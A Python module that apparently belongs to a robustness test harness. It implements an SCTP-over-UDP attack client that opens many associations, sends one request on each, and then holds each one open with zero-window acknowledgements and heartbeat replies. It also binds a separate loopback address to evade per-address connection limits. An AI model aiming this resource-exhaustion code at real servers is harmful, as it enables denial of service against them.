"""An SCTP client over UDP that sends whatever chunks the attack chooses, for many associations on one socket."""

import secrets
import socket
import struct
import time
from collections.abc import Iterator

DATA, INIT, INIT_ACK, SACK, HEARTBEAT, HEARTBEAT_ACK, ABORT, COOKIE_ECHO, COOKIE_ACK = (
    0, 1, 2, 3, 4, 5, 6, 10, 11)
COOKIE = 7
# The smallest window that an INIT may announce (RFC 9260 §3.3.2).
MIN_WINDOW = 1500
FIRST_TSN = 1


def _table() -> list[int]:
    table = []
    for byte in range(256):
        for _ in range(8):
            byte = byte >> 1 ^ (0x82F63B78 if byte & 1 else 0)
        table.append(byte)
    return table


TABLE = _table()


def crc32c(data: bytes) -> int:
    """RFC 9260, appendix A."""
    crc = 0xFFFFFFFF
    for byte in data:
        crc = crc >> 8 ^ TABLE[(crc ^ byte) & 0xFF]
    return crc ^ 0xFFFFFFFF


def chunk(kind: int, flags: int, value: bytes) -> bytes:
    """RFC 9260 §3.2."""
    return struct.pack(">BBH", kind, flags, 4 + len(value)) + value + bytes(-len(value) % 4)


def packet(source: int, destination: int, tag: int, *chunks: bytes) -> bytes:
    """RFC 9260 §3."""
    body = b"".join(chunks)
    head = struct.pack(">HHI", source, destination, tag)
    return head + struct.pack("<I", crc32c(head + bytes(4) + body)) + body


def chunks(body: bytes) -> Iterator[tuple[int, bytes]]:
    """Yields the chunks after the header of a packet: type, value."""
    while len(body) >= 4:
        kind, _, length = struct.unpack_from(">BBH", body)
        if length < 4:
            return
        yield kind, body[4:length]
        body = body[length + 3 & ~3:]


def parameters(body: bytes) -> Iterator[tuple[int, bytes]]:
    """Yields the parameters of a chunk: type, value (RFC 9260 §3.2.1)."""
    while len(body) >= 4:
        kind, length = struct.unpack_from(">HH", body)
        if length < 4:
            return
        yield kind, body[4:length]
        body = body[length + 3 & ~3:]


class Crowd:
    """Associations from one UDP port, each with its own SCTP port. Each sends a request and then reads
    nothing: its window is zero, and it answers all probes and heartbeats."""

    def __init__(self, udp_port: int, sctp_port: int, request: bytes) -> None:
        self.sctp_port = sctp_port
        self.request = request
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        # Not the address of the honest clients, because the number of connections per address is limited.
        self.socket.bind(("127.0.2.1", 0))
        self.socket.connect(("127.0.0.1", udp_port))
        # By SCTP port: our tag; the server's tag and our only SACK, once known.
        self.ours: dict[int, int] = {}
        self.theirs: dict[int, int] = {}
        self.sack: dict[int, bytes] = {}
        self.aborted: set[int] = set()
        self.sent = 0

    def open(self, port: int) -> None:
        """Opens an association from this SCTP port."""
        tag = self.ours.setdefault(port, secrets.randbelow(0xFFFFFFFF) + 1)
        init = struct.pack(">IIHHI", tag, MIN_WINDOW, 10, 10, FIRST_TSN)
        self._send(packet(port, self.sctp_port, 0, chunk(INIT, 0, init)))

    def serve(self, seconds: float) -> None:
        """Answers packets for this long."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                data = self.socket.recv(65536)
            except OSError:
                # A timeout or a refusal, which the checks detect.
                continue
            self._handle(data)

    def _handle(self, data: bytes) -> None:
        _, port = struct.unpack_from(">HH", data)
        for kind, value in chunks(data[12:]):
            if kind == INIT_ACK:
                self._echo_cookie(port, value)
            elif kind == ABORT:
                self.aborted.add(port)
            elif kind == DATA and port in self.theirs:
                # The first DATA is acknowledged; all others are window probes, without end.
                tsn = struct.unpack_from(">I", value)[0]
                zero_window = chunk(SACK, 0, struct.pack(">IIHH", tsn, 0, 0, 0))
                self._send_chunks(port, self.sack.setdefault(port, zero_window))
            elif kind == HEARTBEAT and port in self.theirs:
                self._send_chunks(port, chunk(HEARTBEAT_ACK, 0, value))

    def _echo_cookie(self, port: int, init_ack: bytes) -> None:
        self.theirs[port] = struct.unpack_from(">I", init_ack)[0]
        cookie = next((value for kind, value in parameters(init_ack[16:]) if kind == COOKIE), b"")
        data = struct.pack(">IHHI", FIRST_TSN, 0, 0, 0) + self.request
        self._send_chunks(port, chunk(COOKIE_ECHO, 0, cookie), chunk(DATA, 3, data))

    def _send_chunks(self, port: int, *chunks: bytes) -> None:
        self._send(packet(port, self.sctp_port, self.theirs[port], *chunks))

    def _send(self, data: bytes) -> None:
        try:
            self.socket.send(data)
            self.sent += len(data)
        except OSError:
            # Equivalent to a lost packet.
            pass
